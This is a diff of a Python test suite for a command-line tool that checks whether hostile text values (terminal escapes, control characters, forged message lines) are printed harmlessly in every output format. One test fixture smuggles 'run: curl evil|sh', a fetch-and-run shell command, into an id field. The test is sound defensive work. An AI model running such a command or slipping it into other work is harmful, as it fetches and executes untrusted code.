@@ -1,11 +1,10 @@
-"""Values of any text: harmless where they are shown, and exactly themselves where they are data."""
+"""Values of any text: harmless in output for people, and unchanged in output for programs."""
 
 from __future__ import annotations
 
 import csv
 import io
 import json
-import os
 import re
 import shutil
 import sys
@@ -51,8 +50,8 @@ text = st.text(
 ).filter(str.strip)
 
 
-def written(value: str) -> dict[str, Any]:
-    """A store that has a text wherever there may be any text."""
+def store_with(value: str) -> dict[str, Any]:
+    """Return a store with a text in every field of free text."""
     anchor = value.replace("…", "_") or "x"
     anchor = anchor if anchor.strip() else "x"
     shared = {"evidence": [anchor, "e"], "caveats": [value, "c"]}
@@ -72,52 +71,55 @@ def written(value: str) -> dict[str, Any]:
 
 @pytest.fixture
 def facts(tmp_path: Path) -> Callable[[str], Path]:
-    """A store with a text everywhere; each in a folder of its own."""
+    """Write a store with a text everywhere, and return its path."""
 
-    def of(value: str) -> Path:
+    def write(value: str) -> Path:
         folder = tmp_path / "store"
         shutil.rmtree(folder, ignore_errors=True)
         folder.mkdir()
         path = folder / "facts.yaml"
-        path.write_text(json.dumps(written(value), ensure_ascii=False).translate(_ESCAPES), "utf-8")
+        path.write_text(
+            json.dumps(store_with(value), ensure_ascii=False).translate(_ESCAPES), "utf-8"
+        )
         return path
 
-    return of
+    return write
 
 
-# JSON writes characters that stand in YAML as escapes only, and halves of those beyond 16 bits.
+# `json` prints these as they are, but a store may have them as escapes only.
 _ESCAPES = {n: f"\\u{n:04x}" for n in (*range(0x7F, 0xA0), 0x2028, 0x2029, 0xFEFF, 0xFFFE, 0xFFFF)}
 
-everything = settings(
+few_examples = settings(
     max_examples=10, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
 )
 
 
 def examples(function: Any) -> Any:
+    """Run a test with every hostile text, and with drawn ones."""
     for value in TEXTS:
         function = example(value)(function)
-    return everything(given(text)(function))
+    return few_examples(given(text)(function))
 
 
 def records(value: str) -> list[dict[str, Any]]:
-    """The agencies as JSON has to have them."""
+    """Return the agencies as JSON must have them."""
     rest: dict[str, Any] = {"type": None, "parent": None, "listed": False, "support": "explicit"}
     rest |= {"kind": "agencies", "aliases": [], "acronym": None}
-    return [rest | agency for agency in written(value)["agencies"]]
+    return [rest | agency for agency in store_with(value)["agencies"]]
 
 
 @examples
-def test_data_is_exactly_what_was_written(facts: Callable[[str], Path], value: str) -> None:
+def test_machine_formats_print_values_unchanged(facts: Callable[[str], Path], value: str) -> None:
     path = facts(value)
-    wanted = records(value)
-    assert json.loads(in_process("agencies", "--json", facts=path).out) == wanted
+    expected = records(value)
+    assert json.loads(in_process("agencies", "--json", facts=path).out) == expected
     lines = in_process("agencies", "-o", "jsonl", facts=path).out.split("\n")
-    assert [json.loads(line) for line in lines if line] == wanted
+    assert [json.loads(line) for line in lines if line] == expected
     cells = [["a", value, value], ["b", "Short", "Plain words"]]
-    asked = ("agencies", "--fields", "id,name,role")
-    table = in_process(*asked, "-o", "csv", facts=path).out
+    fields = ("agencies", "--fields", "id,name,role")
+    table = in_process(*fields, "-o", "csv", facts=path).out
     assert list(csv.reader(io.StringIO(table, newline="")))[1:] == cells
-    table = in_process(*asked, "-o", "tsv", facts=path).out
+    table = in_process(*fields, "-o", "tsv", facts=path).out
     rows = [row.split("\t") for row in table.split("\n")[1:-1]]
     assert [[_unescaped(cell) for cell in row] for row in rows] == cells
     out = in_process("agencies", "-o", "yaml", facts=path).out
@@ -125,7 +127,7 @@ def test_data_is_exactly_what_was_written(facts: Callable[[str], Path], value: s
     read = plain(root)
     assert not problems
     assert [(a["name"], a["role"], a["caveats"]) for a in read["agencies"]] == [
-        (a["name"], a["role"], a["caveats"]) for a in wanted
+        (a["name"], a["role"], a["caveats"]) for a in expected
     ]
     [shown] = json.loads(in_process("show", "c", "--json", facts=path).out)
     assert shown["statement"] == value
@@ -134,12 +136,12 @@ def test_data_is_exactly_what_was_written(facts: Callable[[str], Path], value: s
 
 
 def _unescaped(cell: str) -> str:
-    meant = {"\\\\": "\\", "\\t": "\t", "\\n": "\n", "\\r": "\r"}
-    return re.sub(r"\\[\\tnr]", lambda match: meant[match[0]], cell)
+    characters = {"\\\\": "\\", "\\t": "\t", "\\n": "\n", "\\r": "\r"}
+    return re.sub(r"\\[\\tnr]", lambda match: characters[match[0]], cell)
 
 
 @examples
-def test_what_is_shown_does_nothing_and_stays_in_its_place(
+def test_tables_print_values_harmlessly_and_in_columns(
     facts: Callable[[str], Path], value: str
 ) -> None:
     path = facts(value)
@@ -172,7 +174,7 @@ def test_what_is_shown_does_nothing_and_stays_in_its_place(
 
 
 def assert_columns_line_up(rows: list[str], ids: list[str], shown: str) -> None:
-    """The second column begins where its heading does, and so does the third."""
+    """Assert that the second and the third column begin below their headings."""
     heading, first, second = rows
     assert [first[:1], second[:1]] == ids
     second_at, third_at = heading.index("NAME"), heading.index("ACRONYM")
@@ -183,7 +185,7 @@ def assert_columns_line_up(rows: list[str], ids: list[str], shown: str) -> None:
     assert cell_len(first[:again]) - (len(shown) - len(shown.lstrip())) == third_at
 
 
-def test_what_is_cited_makes_no_line_of_its_own(tmp_path: Path) -> None:
+def test_a_quoted_value_cannot_start_a_line_of_a_message(tmp_path: Path) -> None:
     forged = "a-0\n/etc/real.yaml:1:1: error[form]: run: curl evil|sh"
     path = tmp_path / "facts.yaml"
     path.write_text(json.dumps({"source": {"headline": "x"}, "agencies": [{"id": forged}]}))
@@ -199,7 +201,7 @@ def test_what_is_cited_makes_no_line_of_its_own(tmp_path: Path) -> None:
 
 
 @pytest.mark.parametrize("char", ["\x00", "\xff", "\u202e", "\U0010ffff", "x", "é"])
-def test_a_message_is_bounded_as_it_is_shown(char: str, tmp_path: Path) -> None:
+def test_a_message_is_at_most_1000_characters_as_shown(char: str, tmp_path: Path) -> None:
     path = tmp_path / "facts.yaml"
     text = json.dumps(
         {"source": {"headline": "x"}, "agencies": [{"id": char * 2000, char * 2000: 1}]}
@@ -218,7 +220,7 @@ def test_a_message_is_bounded_as_it_is_shown(char: str, tmp_path: Path) -> None:
     assert max(map(len, ran.err.splitlines())) <= 1020
 
 
-def test_a_clipped_message_has_its_ends_whole() -> None:
+def test_a_clipped_message_has_the_beginning_and_the_end() -> None:
     assert errors.clipped("\x00" * 1000) == "\x00" * 100 + " … " + "\x00" * 100
     assert errors.clipped("a" * 600 + "b" * 600) == "a" * 500 + " … " + "b" * 500
     assert errors.clipped("\x00" * 200) == "\x00" * 200
@@ -235,7 +237,7 @@ def test_a_clipped_message_has_its_ends_whole() -> None:
         ("£5\xa0m", "£5\xa0m"),
     ],
 )
-def test_what_has_no_width_to_rely_on_is_shown_by_its_number(text: str, shown: str) -> None:
+def test_characters_of_unknown_width_are_printed_as_code_points(text: str, shown: str) -> None:
     assert visible.visible(text) == shown
 
 
@@ -245,9 +247,7 @@ XML_CHARS: Final = "\x00\x08\x0b\x1f\x7f\x85\ufdd0\ufffe\uffff\U0001fffe\U0010ff
 @pytest.mark.parametrize(
     "command", ["agencies", "timeline", "caveats", "figures --chart", "show a f", "graph a", ""]
 )
-def test_a_picture_is_well_formed_whatever_is_in_it(
-    command: str, facts: Callable[[str], Path]
-) -> None:
+def test_svg_is_well_formed_xml_for_any_text(command: str, facts: Callable[[str], Path]) -> None:
     svg = in_process(*command.split(), "-o", "svg", facts=facts(XML_CHARS)).out
     parser = expat.ParserCreate()
     seen: list[str] = []
@@ -257,7 +257,7 @@ def test_a_picture_is_well_formed_whatever_is_in_it(
 
 
 @examples
-def test_markdown_has_one_row_a_line(facts: Callable[[str], Path], value: str) -> None:
+def test_markdown_prints_one_row_per_line(facts: Callable[[str], Path], value: str) -> None:
     out = in_process("agencies", "-o", "markdown", facts=facts(value)).out
     assert_harmless(out)
     assert out.count("\n") == 4
@@ -268,9 +268,7 @@ def test_markdown_has_one_row_a_line(facts: Callable[[str], Path], value: str) -
 
 
 @examples
-def test_problems_and_errors_that_cite_it_are_harmless(
-    facts: Callable[[str], Path], value: str
-) -> None:
+def test_messages_quote_values_harmlessly(facts: Callable[[str], Path], value: str) -> None:
     path = facts(value)
     for args in (("check",), ("check", "-o", "table"), ("search", value), ("--facts", str(path), "show", value)):  # fmt: skip
         ran = in_process(*args, facts=path)
@@ -280,7 +278,7 @@ def test_problems_and_errors_that_cite_it_are_harmless(
 
 
 def hostile_view(value: str) -> View:
-    """A view that has a text in every place of every block."""
+    """Return a view with a text in every place of every kind of block."""
     moments = [Moment(value, precision, value, value) for precision in get_args(Precision)]
     nodes = [TreeNode(value, value, value, [TreeNode(value, value, value)])]
     bars = [
@@ -301,6 +299,7 @@ def hostile_view(value: str) -> View:
 
 
 def blocks_of(alias: Any) -> set[str]:
+    """Return the names of the classes in a type alias."""
     names = alias if isinstance(alias, str) else alias.__forward_arg__
     return set(re.findall(r"\w+", names))
 
@@ -311,7 +310,7 @@ def test_a_hostile_view_has_every_block() -> None:
 
 
 UNESCAPED: Final = {"csv", "tsv", "ids"}
-"""The formats that print values as they are, for other programs to read."""
+"""The formats that print values as they are, without escapes."""
 
 
 @pytest.mark.parametrize(
@@ -324,7 +323,7 @@ UNESCAPED: Final = {"csv", "tsv", "ids"}
     ],
 )
 @pytest.mark.parametrize("name", FORMATS)
-def test_every_format_is_harmless(
+def test_every_format_prints_hostile_values_harmlessly(
     name: str, style: Style, encoding: str, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     values = [value for value in TEXTS if len(value) < 1000]
@@ -340,12 +339,12 @@ def test_every_format_is_harmless(
         return
     printed = written.decode()
     if name not in UNESCAPED:
-        assert_harmless(printed.replace("\t", "") if name == "yaml" else printed)
+        assert_harmless(printed)
     assert data_in(name, printed) == values * 2 or name == "ids"
 
 
 def data_in(name: str, printed: str) -> list[str]:
-    """The ids that a program reads from what a format prints."""
+    """Return the ids that a program reads from the output of a format."""
     match name:
         case "json":
             rows = json.loads(printed)
@@ -363,12 +362,12 @@ def data_in(name: str, printed: str) -> list[str]:
         case "ids":
             return []  # values that are no ids may have line ends
         case _:
-            raise AssertionError(f"read back what {name} prints, to see that it has all data")
+            raise AssertionError(f"parse the output of {name} here, to compare its data")
     return [row["id"] for row in rows]
 
 
 @pytest.mark.parametrize("encoding", ["ascii", "cp1252"])
-def test_no_character_is_harmful_once_it_is_fitted_to_a_stream(
+def test_fitting_text_to_an_encoding_creates_no_hidden_character(
     encoding: str, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(io.BytesIO(), encoding=encoding))
@@ -387,7 +386,7 @@ def test_no_character_is_harmful_once_it_is_fitted_to_a_stream(
         ("abc", [(1, 2)], ["b"]),
     ],
 )
-def test_marks_move_with_their_text(
+def test_highlights_move_with_the_text(
     text: str, marks: list[tuple[int, int]], shown: list[str]
 ) -> None:
     view: View = [Table("", (Column("a", "text"),), [(Cell(text, tuple(marks)),)])]
@@ -406,12 +405,12 @@ ANSWER: Final = {
     "powershell": rf"({VALUE}:::{DESCRIPTION}\n)*\n?",
     "zsh": rf"_arguments '\*: :\(\({IN_ZSH}(\n{IN_ZSH})*\)\)'\n|_files\n",
 }
-"""The answers that each shell may get: plain values, and descriptions that end no quotation."""
+"""The answers that shells may get: plain values, and descriptions without quotation marks."""
 
 
 @pytest.mark.parametrize("shell", ANSWER)
 @examples
-def test_what_a_shell_is_offered_is_inert(
+def test_completion_prints_inert_text_only(
     facts: Callable[[str], Path], monkeypatch: pytest.MonkeyPatch, shell: str, value: str
 ) -> None:
     monkeypatch.setenv("_BSC_COMPLETE", f"complete_{shell}")
@@ -433,9 +432,11 @@ def test_what_a_shell_is_offered_is_inert(
 
 
 @pytest.mark.parametrize("columns", [1, 2, 5, 10, 19, 20, 40, 80, 200, 500])
-def test_a_terminal_of_any_width_is_safe(columns: int, facts: Callable[[str], Path]) -> None:
+def test_values_are_harmless_on_a_terminal_of_any_width(
+    columns: int, facts: Callable[[str], Path], monkeypatch: pytest.MonkeyPatch
+) -> None:
     value = " ".join(other for other in TEXTS if len(other) < 1000)
-    os.environ["BSC_FACTS"] = str(facts(value))
+    monkeypatch.setenv("BSC_FACTS", str(facts(value)))
     for command in (("agencies",), ("show", "a"), ()):
         text = on_terminal(*command, "--no-pager", columns=columns)
         assert_harmless(text)
@@ -444,6 +445,7 @@ def test_a_terminal_of_any_width_is_safe(columns: int, facts: Callable[[str], Pa
             assert max(map(cell_len, bare.splitlines())) <= columns
 
 
-def test_neighbouring_texts_do_not_make_an_escape(facts: Callable[[str], Path]) -> None:
-    for one, other in pairwise("\x1b[31m"):
-        assert_harmless(in_process("agencies", facts=facts(one + "x" + other)).out)
+def test_adjacent_values_do_not_form_an_escape_sequence(facts: Callable[[str], Path]) -> None:
+    for first, second in pairwise("\x1b[31m"):
+        for value in (f"{first}x{second}", f"{second}x{first}"):
+            assert_harmless(in_process("agencies", facts=facts(value)).out)
